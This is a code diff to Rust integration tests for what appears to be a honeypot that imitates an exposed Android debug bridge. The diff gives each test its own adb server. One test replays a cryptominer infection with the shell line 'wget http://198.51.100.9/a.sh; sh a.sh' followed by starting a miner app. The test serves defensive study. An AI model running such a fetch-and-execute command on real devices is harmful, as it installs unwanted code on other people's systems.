@@ -3,7 +3,7 @@
 use crate::support::{Traps, printed, run, run_with};
 use honeymesh_trap_proto::Definition;
 use honeymesh_types::Signs;
-use std::path::PathBuf;
+use std::{path::PathBuf, process::Stdio};
 
 fn refusing(service: &str) -> Traps {
     Traps::one(&Definition { service: service.into(), let_in: Some(0), ..Definition::default() })
@@ -89,10 +89,38 @@ async fn mbpoll_reads_and_writes_and_reads_back() {
     assert!(beyond.contains("Illegal data address"), "{beyond}");
 }
 
-/// The bridge's own server, on a port of its own, so that tests do not share one.
-async fn adb(server: u16, arguments: &[&str], typed: &[&str]) -> String {
-    let server = server.to_string();
-    printed(&run_with("adb", &[&["-P", &server][..], arguments].concat(), typed).await)
+/// The bridge's server, on a port and in a home of its own, gone with the test.
+struct Bridge {
+    port: String,
+    home: PathBuf,
+    _server: tokio::process::Child,
+}
+
+impl Bridge {
+    async fn start() -> Self {
+        let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+        let home = std::env::temp_dir().join(format!("adb-home-{}-{}", std::process::id(), free.port()));
+        std::fs::create_dir_all(&home).unwrap();
+        let port = free.port().to_string();
+        let mut server = tokio::process::Command::new("adb");
+        server.args(["-P", &port, "server", "nodaemon"]).env("HOME", &home).env("ANDROID_SDK_HOME", &home);
+        server.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).kill_on_drop(true);
+        let server = server.spawn().expect("install the Debian package adb");
+        while tokio::net::TcpStream::connect(free).await.is_err() {
+            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+        }
+        Self { port, home, _server: server }
+    }
+
+    async fn adb(&self, arguments: &[&str], typed: &[&str]) -> String {
+        printed(&run_with("adb", &[&["-P", &self.port][..], arguments].concat(), typed).await)
+    }
+}
+
+impl Drop for Bridge {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.home);
+    }
 }
 
 /// A file that is gone with the test.
@@ -108,25 +136,24 @@ impl Drop for Scratch {
 async fn a_miner_comes_over_the_debugging_port() {
     let mut traps = Traps::usual();
     let box_ = format!("127.0.0.1:{}", traps.port("adb"));
-    let server = 20_000 + traps.port("adb") % 20_000;
-    let said = adb(server, &["connect", &box_], &[]).await;
+    let bridge = Bridge::start().await;
+    let said = bridge.adb(&["connect", &box_], &[]).await;
     assert!(said.contains(&format!("connected to {box_}")), "{said}");
     let hello = traps.visit_where(|visit| visit.trap == "adb" && visit.fields.contains_key("client")).await;
     assert!(hello.fields["client"].starts_with("host::"), "{:?}", hello.fields);
 
-    let model = adb(server, &["-s", &box_, "shell", "getprop ro.product.model"], &[]).await;
+    let model = bridge.adb(&["-s", &box_, "shell", "getprop ro.product.model"], &[]).await;
     assert_eq!(model, "MXQ Pro 4K\r\n");
     let file = Scratch(std::env::temp_dir().join(format!("honeymesh-ufo-{}.apk", std::process::id())));
     std::fs::write(&file.0, vec![0x7f; 200_000]).unwrap();
-    let pushed = adb(server, &["-s", &box_, "push", file.0.to_str().unwrap(), "/data/local/tmp/"], &[]).await;
+    let pushed = bridge.adb(&["-s", &box_, "push", file.0.to_str().unwrap(), "/data/local/tmp/"], &[]).await;
     assert!(pushed.contains("1 file pushed"), "{pushed}");
     let command =
         "cd /data/local/tmp; wget http://198.51.100.9/a.sh; sh a.sh; am start -n com.ufo.miner/com.example.test.MainActivity";
-    let started = adb(server, &["-s", &box_, "shell", command], &[]).await;
+    let started = bridge.adb(&["-s", &box_, "shell", command], &[]).await;
     assert!(started.contains("Starting: Intent { cmp=com.ufo.miner/com.example.test.MainActivity }"), "{started}");
-    let typed = adb(server, &["-s", &box_, "shell"], &["id\n", "exit\n"]).await;
+    let typed = bridge.adb(&["-s", &box_, "shell"], &["id\n", "exit\n"]).await;
     assert!(typed.contains("uid=0(root) gid=0(root)"), "{typed}");
-    adb(server, &["kill-server"], &[]).await;
 
     let file = traps.visit_where(|visit| visit.fields.contains_key("file_bytes")).await;
     let name = format!("/data/local/tmp/honeymesh-ufo-{}.apk", std::process::id());
@@ -143,18 +170,16 @@ async fn a_miner_comes_over_the_debugging_port() {
 async fn a_box_that_asks_for_a_key_gets_it_and_lets_nobody_in() {
     let mut traps = refusing("adb");
     let box_ = format!("127.0.0.1:{}", traps.port("adb"));
-    let server = 20_000 + traps.port("adb") % 20_000;
-    adb(server, &["start-server"], &[]).await;
+    let bridge = Bridge::start().await;
     // The client waits until somebody presses the button.
     let connect = ["connect", box_.as_str()];
     let key = tokio::select! {
         key = traps.visit_where(|visit| visit.fields.contains_key("public_key")) => key,
-        said = adb(server, &connect, &[]) => panic!("it was not asked for a key: {said}"),
+        said = bridge.adb(&connect, &[]) => panic!("it was not asked for a key: {said}"),
     };
     assert_eq!(key.signs, Signs::CREDENTIALS);
-    let listed = adb(server, &["devices"], &[]).await;
+    let listed = bridge.adb(&["devices"], &[]).await;
     assert!(listed.contains("unauthorized") || listed.contains("authorizing"), "{listed}");
-    adb(server, &["kill-server"], &[]).await;
 }
 
 /// nmap's own probe of this name, which it would send to the usual port only.
